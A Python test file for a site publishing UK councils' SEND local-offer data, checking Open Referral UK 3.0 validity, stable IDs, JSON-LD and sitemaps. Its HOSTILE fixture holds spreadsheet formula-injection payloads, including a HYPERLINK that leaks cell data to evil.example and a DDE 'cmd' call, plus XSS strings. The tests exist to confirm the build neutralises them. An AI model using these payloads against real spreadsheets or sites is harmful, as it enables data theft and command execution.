"""Open data: the published JSON is valid against the published schema, Open Referral UK files are
valid against the official Open Referral UK 3.0 schemas, and the JSON-LD in pages says what the page shows."""

from __future__ import annotations

import json
import re
import uuid
from html import unescape
from urllib.parse import urlsplit

import jsonschema
import pytest
from referencing import Registry, Resource
from referencing.exceptions import NoSuchResource
from referencing.jsonschema import DRAFT202012

from macros.build.open_data import ROLE_NAMES
from support import MINIMAL_AUTHORITY, ROOT, build, build_one
from test_site import AUTHORITIES, SLUGS, page_text


def json_ld(html: str) -> list[dict]:
    return [json.loads(block) for block in re.findall(r'<script type="application/ld\+json">(.*?)</script>', html, re.S)]


def test_each_councils_data_is_published_and_valid_against_the_published_schema(built_site):
    schema = json.loads((built_site / "data" / "authority.schema.json").read_text(encoding="utf-8"))
    assert schema == json.loads((ROOT / "authorities" / "authority.schema.json").read_text(encoding="utf-8"))
    combined = json.loads((built_site / "data" / "authorities.json").read_text(encoding="utf-8"))["authorities"]
    assert [d["slug"] for d in combined] == [a.slug for a in AUTHORITIES]
    for authority, from_list in zip(AUTHORITIES, combined):
        document = json.loads((built_site / "data" / f"{authority.slug}.json").read_text(encoding="utf-8"))
        assert document == from_list and document["$schema"] == "authority.schema.json"
        jsonschema.Draft202012Validator(schema).validate(document)
        assert document["name"] == authority.name and document["last_reviewed"] == authority.last_reviewed.isoformat()


@pytest.mark.parametrize("slug", SLUGS)
def test_open_referral_files_have_the_shape_and_the_contacts(built_site, slug):
    authority = next(a for a in AUTHORITIES if a.slug == slug)
    data = json.loads((built_site / "data" / "open-referral" / f"{slug}.json").read_text(encoding="utf-8"))
    assert {"id", "name", "description", "services"} <= set(data) and data["name"] == authority.name
    assert [s["name"] for s in data["services"]] == [c.name for c in authority.contacts]
    for service, contact in zip(data["services"], authority.contacts):
        assert {"id", "name", "status"} <= set(service)
        assert service.get("description") == (str(contact.description) if contact.description else
                                              None if contact.role == "other" else ROLE_NAMES[contact.role])
        phones = [p["number"] for c in service.get("contacts", []) for p in c["phones"]]
        assert phones == contact.phones  # the first number, then any more_phones
        assert service.get("email") == contact.email


# The standard's own schemas, copied into the project with their licence (tests/open-referral-uk-3.0/README.md).
OPEN_REFERRAL_UK = ROOT / "tests" / "open-referral-uk-3.0"


def _no_network(uri: str):
    raise NoSuchResource(ref=uri)  # every $ref resolves to a file in OPEN_REFERRAL_UK, or fails


def _is_uri(value) -> bool:
    # jsonschema checks "uri" only with rfc3987 installed, which the project does not use: an absolute
    # RFC 3986 URI, in its characters, with a host where it is a web address.
    if not isinstance(value, str):
        return True
    if not re.fullmatch(r"[A-Za-z][A-Za-z0-9+.-]*:[A-Za-z0-9\-._~:/?#\[\]@!$&'()*+,;=%]+", value):
        return False
    parts = urlsplit(value)
    return bool(parts.netloc) if parts.scheme.lower() in ("http", "https") else True


def open_referral_uk(name: str = "organization.json") -> jsonschema.Draft202012Validator:
    """A validator of Open Referral UK 3.0's `name` schema, with the uuid, uri and email formats checked."""
    schemas = {path.name: json.loads(path.read_text(encoding="utf-8")) for path in OPEN_REFERRAL_UK.glob("*.json")}
    registry = Registry(retrieve=_no_network).with_resources(
        (file, Resource.from_contents(schema, default_specification=DRAFT202012)) for file, schema in schemas.items())
    checker = jsonschema.FormatChecker()
    checker.checks("uri")(_is_uri)
    schema = schemas[name]
    jsonschema.Draft202012Validator.check_schema(schema)
    return jsonschema.Draft202012Validator(schema, registry=registry, format_checker=checker)


PHONE = {"$ref": "service_with_definitions.json#/definitions/phone"}


def assert_valid_open_referral_uk(document: dict) -> None:
    """`document` is a valid UK 3.0 organization; every field it has is one 3.0 declares, but for the
    phones (3.0's organization has no place for one), which are 3.0 phones; every id is a UUID."""
    validator = open_referral_uk()
    problems = [f"{'/'.join(map(str, e.absolute_path))}: {e.message}" for e in validator.iter_errors(document)]
    assert not problems, problems
    phone_validator = validator.evolve(schema=PHONE)

    def walk(value, schema, path):
        if isinstance(value, list):
            for n, item in enumerate(value):
                walk(item, schema.get("items", {}), f"{path}[{n}]")
        elif isinstance(value, dict):
            declared = schema.get("properties", {})
            for key, item in value.items():
                if key == "phones" and re.fullmatch(r"services\[\d+\]\.contacts\[\d+\]", path):
                    for phone in item:
                        phone_validator.validate(phone)
                        assert phone["contact_id"] == value["id"]
                    continue
                assert key in declared, f"{path}.{key} is not an Open Referral UK 3.0 field"
                if key == "id" or key.endswith("_id"):
                    assert str(uuid.UUID(item)) == item, f"{path}.{key} = {item!r} is not a UUID"
                walk(item, declared[key], f"{path}.{key}" if path else key)

    walk(document, validator.schema, "")


def test_the_uuid_uri_and_email_formats_are_really_checked():
    validator = open_referral_uk()
    good = {"id": "c2cff136-c885-5f3d-96b8-fb1ee45a23f6", "name": "A council", "description": "A council."}
    validator.validate(good)
    for bad in ({"id": "example"}, {"id": "example-service-1"}, {"id": "c2cff136c8855f3d96b8fb1ee45a23f6"},
                {"website": "www.example.gov.uk"}, {"website": "https://"}, {"website": "https://a b.example/"},
                {"email": "sendiass.example.gov.uk"}):
        assert not validator.is_valid({**good, **bad}), bad


# A council with every contact field set, a description with the council's own words, and addresses
# whose city and postcode can and cannot be read.
EVERY_FIELD = MINIMAL_AUTHORITY.split("contacts:")[0].replace(
    "last_reviewed:", "local_offer_url: https://www.example.gov.uk/localoffer\nlast_reviewed:") + """\
contacts:
  - role: sendiass
    name: Example SENDIASS
    description:
      text: Free, confidential advice for parents of children with SEND.
      council_says: Free, confidential advice for parents of children with SEND.
    phone: "01234 567890"
    email: sendiass@example.gov.uk
    web: https://www.example.gov.uk/sendiass
    address: [Municipal Buildings, Church Road, Exampleton, ex1 1aa]
    opening_hours: Monday to Friday, 9am to 5pm
  - role: sen_team
    name: Example SEN Team
    description: The council's team for EHC needs assessments.
    phone: "01234 567891"
    email: sen@example.gov.uk
    web: https://www.example.gov.uk/sen
    address: [Civic Centre, 1 High Street, "Exampleton, EX2 2BB", United Kingdom]
    opening_hours: Weekdays, 8.30am to 4.30pm
  - role: parent_carer_forum
    name: Example Parent Carer Forum
    description: Parents who help shape services.
    address: [Town Hall, EX1 1AA]
  - role: local_offer_team
    name: Example Local Offer
    description: The Local Offer team.
    address: [Town Hall, 16 Church Road, EX1 1AA]
  - role: other
    name: Example Welsh Office
    address: [1 Main Street, Cardiff, CF10 1AA]
  - role: other
    name: Example Postbox
    address: [1 Main Street, Exampleton, EX1 1AA, DX 12345 Exampleton]
  - role: other
    name: Example Building
    address: [Example House, Exampleton]
sources:
  - file: contacts.md
"""
CONTACTS_PAGE = """\
---
title: Contacts
url: https://www.example.gov.uk/contacts
publisher: Example Borough Council
publisher_kind: council
read: 2026-01-15
---
Example SENDIASS: Free, confidential advice for parents of children with SEND.
"""
# The address each contact above may publish: only where its city and postcode can be read, and its
# postcode is in England (state_province).
READABLE = {
    "Example SENDIASS": {"address_1": "Municipal Buildings, Church Road", "city": "Exampleton",
                         "state_province": "England", "postal_code": "EX1 1AA", "country": "GB"},
    "Example SEN Team": {"address_1": "Civic Centre, 1 High Street", "city": "Exampleton",
                         "state_province": "England", "postal_code": "EX2 2BB", "country": "GB"},
}


def _open_referral(site) -> dict:
    return json.loads((site / "data" / "open-referral" / "example.json").read_text(encoding="utf-8"))


@pytest.fixture(scope="module")
def every_field_site(tmp_path_factory):
    """A one-council site from EVERY_FIELD, with the source page its quote is on."""
    folder = tmp_path_factory.mktemp("every-field")
    (folder / "authorities" / "sources" / "example").mkdir(parents=True)
    (folder / "authorities" / "example.yaml").write_text(EVERY_FIELD, encoding="utf-8")
    (folder / "authorities" / "sources" / "example" / "contacts.md").write_text(CONTACTS_PAGE, encoding="utf-8")
    result = build(folder / "site", LOCAL_OFFER_AUTHORITIES_DIR=str(folder / "authorities"))
    assert result.returncode == 0, result.stderr
    return folder / "site"


def test_a_council_with_every_contact_field_is_valid_open_referral_uk_3(every_field_site):
    data = _open_referral(every_field_site)
    assert_valid_open_referral_uk(data)
    assert data["name"] == "Example Borough Council" and data["website"] == "https://www.example.gov.uk/localoffer"
    sendiass, sen_team = data["services"][:2]
    assert sendiass["description"] == "Free, confidential advice for parents of children with SEND."
    assert sendiass["url"] == "https://www.example.gov.uk/sendiass" and sendiass["email"] == "sendiass@example.gov.uk"
    assert sendiass["contacts"][0]["phones"][0]["number"] == "01234 567890"
    assert sendiass["schedules"][0]["description"] == "Monday to Friday, 9am to 5pm"
    assert sendiass["assured_date"] == "2026-01-15" and sendiass["status"] == "active"
    assert all(s["organization_id"] == data["id"] for s in data["services"])
    assert sen_team["description"] == "The council's team for EHC needs assessments."
    assert "description" not in data["services"][4]  # "other", with nothing to say it is


def test_a_contact_has_a_location_only_where_its_city_and_postcode_can_be_read(every_field_site):
    services = {s["name"]: s for s in _open_referral(every_field_site)["services"]}
    assert len(services) == 7
    for name, service in services.items():
        if name in READABLE:
            (place,) = service["service_at_locations"]
            (address,) = place["location"]["addresses"]
            assert {k: address[k] for k in READABLE[name]} == READABLE[name]
            assert place["location"]["location_type"] == address["address_type"] == "postal"
            assert address["location_id"] == place["location_id"] == place["location"]["id"]
        else:
            assert "service_at_locations" not in service, name
    assert "Exampleton" not in json.dumps(services["Example Building"])


def _ids(data: dict) -> dict[str, list[str]]:
    """The ids of each service and of everything in it (contact, phone, schedule, location...), by its name."""
    return {s["name"]: re.findall(r'"id": "([^"]+)"', json.dumps(s)) for s in data["services"]}


def test_ids_stay_the_same_across_builds_and_differ_between_contacts(tmp_path):
    first_text = EVERY_FIELD.replace("  - file: contacts.md\n", "  - title: Contacts\n").replace(
        """    description:
      text: Free, confidential advice for parents of children with SEND.
      council_says: Free, confidential advice for parents of children with SEND.
""", "    description: Free, confidential advice for parents of children with SEND.\n")
    # The next build: a contact added at the top (so every other one moves down), one removed and one renamed.
    second_text = first_text.replace("contacts:\n", """contacts:
  - role: sendiass
    name: Example SENDIASS Helpline
    phone: "01234 567899"
""").replace("    name: Example Building\n", "    name: Example Tower\n").replace(
        "  - role: other\n    name: Example Welsh Office\n    address: [1 Main Street, Cardiff, CF10 1AA]\n", "")
    built = []
    for name, text in (("first", first_text), ("second", second_text)):
        (tmp_path / name).mkdir()
        result, site = build_one(tmp_path / name, text)
        assert result.returncode == 0, result.stderr
        built.append(_open_referral(site))
    first, second = built
    assert_valid_open_referral_uk(second)
    assert first["id"] == second["id"]
    before, after = _ids(first), _ids(second)
    kept = set(before) & set(after)
    assert len(kept) == 5 and all(before[name] == after[name] for name in kept)
    assert before["Example Building"][0] != after["Example Tower"][0]
    for data in built:
        every = [data["id"], *(i for ids in _ids(data).values() for i in ids)]
        assert len(every) == len(set(every)) > len(data["services"]) + 1


def test_two_contacts_with_the_same_name_and_role_get_different_ids(tmp_path):
    text = MINIMAL_AUTHORITY.replace("contacts:\n", "contacts:\n  - role: sendiass\n    name: Example SENDIASS\n")
    result, site = build_one(tmp_path, text)
    assert result.returncode == 0, result.stderr
    data = _open_referral(site)
    assert_valid_open_referral_uk(data)
    assert len({s["id"] for s in data["services"]}) == 2


@pytest.mark.parametrize("slug", SLUGS)
def test_each_councils_open_referral_file_is_valid_open_referral_uk_3(built_site, slug):
    data = json.loads((built_site / "data" / "open-referral" / f"{slug}.json").read_text(encoding="utf-8"))
    assert_valid_open_referral_uk(data)
    authority = next(a for a in AUTHORITIES if a.slug == slug)
    assert data.get("website") == (str(authority.local_offer_url) if authority.local_offer_url else None)
    assert [s.get("url") for s in data["services"]] == [str(c.web) if c.web else None for c in authority.contacts]


def test_faq_pages_carry_the_questions_and_answers_they_show(built_site):
    html = (built_site / "stockton-on-tees" / "faqs" / "index.html").read_text(encoding="utf-8")
    (faq,) = [d for d in json_ld(html) if d["@type"] == "FAQPage"]
    shown = [unescape(re.sub(r"<[^>]+>", "", q)).strip() for q in re.findall(r'<summary class="lo-faq__question">(.*?)</summary>', html, re.S)]
    assert [q["name"] for q in faq["mainEntity"]] == shown
    words = lambda text: re.sub(r"\W+", " ", text).strip()  # noqa: E731 - tags leave spaces by punctuation
    visible = words(page_text(built_site, "stockton-on-tees/faqs"))
    for question in faq["mainEntity"]:
        assert words(_Answer(question["acceptedAnswer"]["text"]).words) in visible  # read as HTML, as search engines do


def test_contacts_pages_carry_the_organisation_and_its_contact_points(built_site):
    html = (built_site / "stockton-on-tees" / "contacts" / "index.html").read_text(encoding="utf-8")
    (organization,) = [d for d in json_ld(html) if d["@type"] == "GovernmentOrganization"]
    assert organization["name"] == "Stockton-on-Tees Borough Council"
    visible = page_text(built_site, "stockton-on-tees/contacts")
    for point in organization["contactPoint"]:
        assert point["name"] in visible and point["telephone"] in visible and point["email"] in visible


def test_every_page_carries_a_breadcrumb_trail(built_site):
    for page in built_site.rglob("index.html"):
        trails = [d for d in json_ld(page.read_text(encoding="utf-8")) if d["@type"] == "BreadcrumbList"]
        assert len(trails) == 1, page
        assert trails[0]["itemListElement"][0]["name"] == "Home"
    trail = [d for d in json_ld((built_site / "trafford" / "funding" / "index.html").read_text()) if d["@type"] == "BreadcrumbList"][0]
    assert [i["name"] for i in trail["itemListElement"]] == ["Home", "Trafford", "Funding and top-up"]


def test_the_sitemap_dates_council_pages_by_their_review_and_robots_points_to_it(built_site):
    sitemap = (built_site / "sitemap.xml").read_text(encoding="utf-8")
    assert re.search(r"trafford/funding/</loc>\s*<lastmod>2026-11-22</lastmod>", sitemap)
    assert "Sitemap: " in (built_site / "robots.txt").read_text() and "sitemap.xml" in (built_site / "robots.txt").read_text()


def sitemap_dates(site) -> dict[str, str | None]:
    """Each address in the built sitemap.xml, as a path from the site root, with its lastmod (None if it has none)."""
    import xml.etree.ElementTree as ET

    ns = {"s": "http://www.sitemaps.org/schemas/sitemap/0.9"}
    root = ET.parse(site / "sitemap.xml").getroot()
    dates = {}
    for url in root.findall("s:url", ns):
        lastmod = url.find("s:lastmod", ns)
        dates[urlsplit(url.find("s:loc", ns).text).path.lstrip("/")] = None if lastmod is None else lastmod.text
    return dates


def test_the_sitemap_dates_each_national_page_by_its_own_review_not_the_build(built_site):
    import yaml

    dates = sitemap_dates(built_site)
    checked = 0
    for source in sorted((ROOT / "content").glob("*.md")):
        front = yaml.safe_load(source.read_text(encoding="utf-8").split("---", 2)[1])
        path = "" if source.stem == "index" else f"{source.stem}/"
        assert path in dates, f"content/{source.name}: {path or 'the home page'} is not in sitemap.xml"
        assert dates[path] == front["last_reviewed"].isoformat(), \
            f"content/{source.name}: sitemap lastmod {dates[path]}, its last_reviewed {front['last_reviewed']}"
        checked += 1
    assert checked >= 5
    # Every council page is dated by its council's review, so no address carries the day of the build
    # unless something was really reviewed that day.
    reviewed = {a.last_reviewed.isoformat() for a in AUTHORITIES} | {
        yaml.safe_load(s.read_text(encoding="utf-8").split("---", 2)[1])["last_reviewed"].isoformat()
        for s in (ROOT / "content").glob("*.md")}
    assert set(dates.values()) <= reviewed, set(dates.values()) - reviewed
    for authority in AUTHORITIES:
        assert dates[f"{authority.slug}/"] == authority.last_reviewed.isoformat()


def test_a_page_that_states_no_review_date_gets_no_lastmod_rather_than_the_build_date():
    from types import SimpleNamespace

    from macros.build.open_data import on_page_content

    page = SimpleNamespace(meta={"title": "No date"}, update_date="2026-12-02")
    on_page_content("<p>Text</p>", page, None, None)
    assert page.update_date is None
    page = SimpleNamespace(meta={"last_reviewed": "soon"}, update_date="2026-12-02")
    on_page_content("<p>Text</p>", page, None, None)
    assert page.update_date is None


HOSTILE = """\
name: -1-1 Borough Council
short_name: Example
slug: example
last_reviewed: 2026-01-15
terminology:
  plan_name: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
  support_level_names: ["+cmd|' /C calc'!A0", "@SUM(1+1)"]
sen_support:
  summary: Schools in Example give extra help to children who need it.
assess_plan_do_review:
  steps: {assess: Look., plan: Plan., do: Do., review: Review.}
  review_frequency: "＝1+1"
funding:
  elements:
    - name: Element 2
      amount: 6000
  top_up_routes:
    - name: "%0A-2+3+cmd|' /C calc'!A0"
contacts:
  - role: sendiass
    name: "@SUM(A1:A9)"
    phone: "01234 567890"
faqs:
  - question: "=1+1, and <b>bold</b>?"
    answer: >-
      Typed HTML <a href="https://evil.example/">click here</a> <script>alert(1)</script>
      <img src=x onerror=alert(1)>, a real [link](https://www.example.gov.uk/send), Tom & Jerry < 3,
      and [a bad one](javascript:alert(1)).
sources:
  - title: SEN support in Example
"""


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    from support import build_one

    result, site = build_one(tmp_path_factory.mktemp("hostile"), HOSTILE)
    assert result.returncode == 0, result.stderr
    return site


def test_no_cell_of_the_compare_csv_runs_as_a_spreadsheet_formula(hostile_site):
    import csv
    import io
    import unicodedata

    rows = list(csv.reader(io.StringIO((hostile_site / "data" / "compare.csv").read_text(encoding="utf-8"))))
    assert len(rows) == 2 and len(rows[1]) == len(rows[0])
    neutralised = 0
    for cell in rows[0] + rows[1]:
        start = unicodedata.normalize("NFKC", cell).lstrip()[:1]
        assert start not in ("=", "+", "-", "@", "\t", "\r", "|", "%"), cell
        neutralised += cell.startswith("'")
    # The council, the levels, the review, the plan, the top-up and SENDIASS columns all began like formulas.
    assert neutralised == 6, rows[1]
    assert "'=HYPERLINK(" in rows[1][6] or any(c.startswith("'=HYPERLINK(") for c in rows[1])


class _Answer(__import__("html.parser").parser.HTMLParser):
    """The visible text and the working links of a piece of HTML, as a browser would show it."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.text, self.links, self.tags = [], [], []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        if tag == "a":
            self.links.append(dict(attrs).get("href"))

    def handle_data(self, data):
        self.text.append(data)

    @property
    def words(self) -> str:
        return re.sub(r"\s+", " ", "".join(self.text)).strip()


def test_the_faq_json_ld_holds_exactly_what_the_page_shows(hostile_site):
    html = (hostile_site / "example" / "faqs" / "index.html").read_text(encoding="utf-8")
    (faq,) = [d for d in json_ld(html) if d["@type"] == "FAQPage"]
    answer_html = re.search(r'<div class="lo-faq__answer">(.*?)</div>\s*</details>', html, re.S).group(1)
    shown, published = _Answer(answer_html), _Answer(faq["mainEntity"][0]["acceptedAnswer"]["text"])
    assert published.words == shown.words and "click here" in published.words
    assert '<a href="https://evil.example/">' in published.words  # shown as text, as on the page
    assert published.links == shown.links == ["https://www.example.gov.uk/send"]
    assert set(published.tags) <= {"p", "a", "ul", "ol", "li", "strong", "em", "br"}
    assert faq["mainEntity"][0]["name"] == "=1+1, and <b>bold</b>?"
    assert "<b>bold</b>" not in html.split('<script type="application/ld+json">')[0]
